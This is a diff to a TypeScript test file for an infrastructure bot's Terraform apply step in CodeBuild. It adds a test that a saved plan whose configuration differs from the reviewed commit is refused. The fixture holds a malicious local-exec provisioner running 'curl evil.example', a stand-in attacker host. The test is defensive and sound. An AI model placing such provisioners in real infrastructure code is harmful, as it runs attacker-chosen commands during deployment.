@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { sha256Hex } from '../../../core/jobs/plan-digest';
 import { APPLY_ROLE, stack } from '../../support/run-spec';
+import { standInPlanOf } from '../../support/stand-in-plan-file';
 import { commandLine } from '../../support/stand-ins';
 import { BUCKET, runCodeBuild, STANDIN_PLAN } from './codebuild-harness';
 
@@ -23,7 +24,7 @@ describe('buildspecs/apply.yml in CodeBuild', () => {
       `terraform -chdir=stacks/net show -json ${run.workDir}/plan/tfplan`,
       `terraform -chdir=stacks/net apply -input=false -lock-timeout=5m -no-color ${run.workDir}/plan/tfplan`,
     ]);
-    expect(readFileSync(join(run.workDir, 'plan/tfplan'), 'utf8')).toBe(STANDIN_PLAN);
+    expect(readFileSync(join(run.workDir, 'plan/tfplan'))).toEqual(STANDIN_PLAN);
     expect(readFileSync(join(run.workDir, 'aws-config'), 'utf8')).toContain(`role_arn = ${APPLY_ROLE}\n`);
     expect(run.calls.every((call) => call.env.AWS_PROFILE === 'stack')).toBe(true);
     expect(run.s3('jobs/j-cb-apply/log.txt')).toContain('Apply complete!');
@@ -52,6 +53,28 @@ describe('buildspecs/apply.yml in CodeBuild', () => {
     const log = run.s3('jobs/j-cb-apply/log.txt');
     expect(log).toContain(
       `infrabot: refusing to apply: the saved plan changed after its plan ended (SHA-256 ${sha256Hex('forged plan')}, recorded ${sha256Hex(STANDIN_PLAN)})`,
+    );
+  });
+
+  it('refuses a saved plan whose configuration is not the commit’s, with the reviewed changes and digest, and never calls terraform apply', async () => {
+    // Prepare: the plan build saved (and the bot recorded the digest of) a plan of a configuration with a provisioner
+    const provisioned = standInPlanOf({
+      'main.tf':
+        'resource "terraform_data" "x" {\n  provisioner "local-exec" {\n    command = "curl evil.example"\n  }\n}\n',
+    });
+
+    // Act
+    const run = await runCodeBuild(net, {
+      job: applyJob,
+      s3Objects: { 'jobs/j-cb-plan/tfplan': provisioned },
+      planDigest: sha256Hex(provisioned),
+    });
+
+    // Assess
+    expect(run.result).toMatchObject({ ok: false, exitCode: 1 });
+    expect(run.calls.map(commandLine)).not.toContainEqual(expect.stringContaining(' apply '));
+    expect(run.s3('jobs/j-cb-apply/log.txt')).toContain(
+      "infrabot: refusing to apply: the saved plan's configuration is not the reviewed commit's (main.tf of module root differs); plan the stack again",
     );
   });
 
